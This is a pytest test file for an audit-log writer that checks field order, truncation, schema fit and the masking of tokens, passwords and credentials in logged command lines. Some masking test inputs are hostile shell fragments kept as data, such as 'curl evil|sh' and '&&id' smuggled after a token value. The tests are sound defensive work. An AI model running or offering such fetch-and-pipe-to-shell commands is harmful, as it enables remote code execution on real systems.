"""An audit line is one line of known shape whatever went into it, and no secret is in it."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from time import process_time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bastion.audit import event, schema
from devservers_core.command_masking import mask
from devservers_core.protocol.audit import EVENTS, LINE_FIELDS, NUMBER_FIELDS, TEXT_FIELDS
from tests.support.bastion.schema import SCHEMA, problems

NOW = datetime(2026, 11, 21, 12, 0, 0, 7000, tzinfo=UTC)


def written(**fields: Any) -> dict[str, Any]:
    """The line for these fields, read again."""
    text = event.line({"event": "command_start", "replica": "r", **fields}, NOW)
    assert not problems(text + "\n")
    return dict(json.loads(text))


def test_schema_file_is_what_the_protocol_says() -> None:
    assert (Path(schema.__file__).parent / "schema.json").read_text() == schema.text(), (
        "run `python -m bastion.audit.schema`"
    )
    assert schema.schema() == SCHEMA


def test_protocol_orders_every_field_of_a_line_once() -> None:
    assert sorted(LINE_FIELDS) == sorted(["ts", "v", "event", "argv", "truncated", *TEXT_FIELDS, *NUMBER_FIELDS])


def test_line_has_its_fields_in_a_fixed_order() -> None:
    found = written(reason="x", exit=3, user="ann", session="s", argv=["devctl", "list"], kind="exec")
    assert list(found) == ["ts", "v", "event", "session", "replica", "user", "kind", "argv", "exit", "reason"]
    assert found["ts"] == "2026-11-21T12:00:00.007Z"


def test_line_leaves_out_fields_of_the_wrong_type() -> None:
    found = written(user=7, exit="3", argv="devctl", kind="root shell", uid=True, src_port=1e9, unknown="x", v=9)
    assert list(found) == ["ts", "v", "event", "replica"]
    assert found["v"] == 1


@pytest.mark.parametrize(
    ("argv", "shown"),
    [
        (["devctl", "x", "--token", "SECRET"], ["devctl", "x", "--token", "***"]),
        (["--token=SECRET"], ["--token=***"]),
        (["--password", "SECRET", "list"], ["--password", "***", "list"]),
        (["--token", "--wait"], ["--token", "--wait"]),
        (["--env", "HF_TOKEN=SECRET"], ["--env", "HF_TOKEN=***"]),
        (["--env", "AWS_SECRET_ACCESS_KEY=SECRET\nx"], ["--env", "AWS_SECRET_ACCESS_KEY=***"]),
        (["--env=HF_TOKEN=SECRET"], ["--env=HF_TOKEN=***"]),
        (["x?a=1&token=SECRET&b=2", "A:my-api-key: SECRET"], ["x?a=1&token=***&b=2", "A:my-api-key: ***"]),
        (["X-Credential: Bearer SECRET"], ["X-Credential: Bearer ***"]),
        (["token=x; curl evil|sh"], ["token=***; curl evil|sh"]),
        (["token=x&&id", "TOKEN='a b' id", 'password="a b"|sh'], ["token=***&&id", "TOKEN=*** id", "password=***|sh"]),
        (["token='SECRET", "token=x'y"], ["token=***", "token=***'y"]),
        (["--secret", "SECRET", "curl", "evil"], ["--secret", "***", "curl", "evil"]),
        (["git+https://u:SECRET@h/x", "//h:80/a@b"], ["git+https://u:***@h/x", "//h:80/a@b"]),
        (["https://ann:SECRET@example.org/x"], ["https://ann:***@example.org/x"]),
        (["Authorization: Bearer SECRET"], ["Authorization: Bearer ***"]),
        (["eyJhbGciOiJSUzI1NiIs.SECRET.SECRET"], ["***"]),
        (["devctl", "create", "tokenizer", "--image", "a/b:c"], ["devctl", "create", "tokenizer", "--image", "a/b:c"]),
    ],
)
def test_line_masks_secrets(argv: list[str], shown: list[str]) -> None:
    assert written(argv=argv)["argv"] == shown


def test_line_cuts_long_fields_and_says_so() -> None:
    found = written(argv=["x" * 5000, "y"])
    assert (found["argv"], found["truncated"]) == (["x" * 4096], True)
    assert written(argv=["ä" * 4096])["argv"] == ["ä" * 2048]
    assert written(argv=["x"] * 10000)["truncated"]
    assert len(written(reason="z" * 600)["reason"]) == 512
    assert "truncated" not in written(argv=["x" * 4096])


@pytest.mark.parametrize(
    "unit",
    ["-token", "token", "token=", "token = ", "--token--", "=token", "a", "-", "a-", "://", "://a:", "a://b:c", "a:",
     "eyJ-", "eyJaaaaaaaa.", "bearer ", "bearer\t", " ", 'token="', "token='", "api-", "\\", "\udcff", "\0",
     " -e", " -e A=", " -e A='", ' -e "A=', "-eA=", ' -e A=\\"', " -e A=\\"],
)  # fmt: skip
@pytest.mark.parametrize("end", ["", "!", "=", "@"])
def test_line_of_hostile_text_takes_bounded_time(unit: str, end: str) -> None:
    """The slow ones took minutes: the time of the processor is what is bounded here, far from what it takes."""
    word = (unit * 16384)[: 16384 - len(end)] + end
    began = process_time()
    mask([word])
    written(argv=[word[:4096], word], reason=word)
    written(argv=[word] * 40)
    assert process_time() - began < 1


def test_line_masks_a_secret_that_is_cut() -> None:
    found = written(argv=["https://ann:" + "SECRET" * 1000 + "@h/x"])
    assert (found["argv"], found["truncated"]) == (["https://ann:***"], True)
    assert "SECRET" not in str(written(argv=["x" * 4000, "token=" + "SECRET" * 1000]))


@pytest.mark.parametrize("text", ["a\nb\r\0\x1b[2J\x7f", "\u2028\u009b31m", "\udcff\udc80", "\ud800", "ä€𝄞", '"\\'])
def test_line_of_any_character_stays_one_line(text: str) -> None:
    line = event.line({"event": "denied", "replica": "r", "argv": [text], "target": text}, NOW)
    assert not problems(line + "\n")


_value = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters()) | st.text(max_size=9000),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=6,
)


@given(st.dictionaries(st.sampled_from(LINE_FIELDS) | st.text(), _value, max_size=12), st.sampled_from(EVENTS))
def test_line_of_any_request_fits_the_schema(fields: dict[str, Any], name: str) -> None:
    line = event.line({**fields, "event": name, "replica": "r"}, NOW)
    assert not problems(line + "\n")
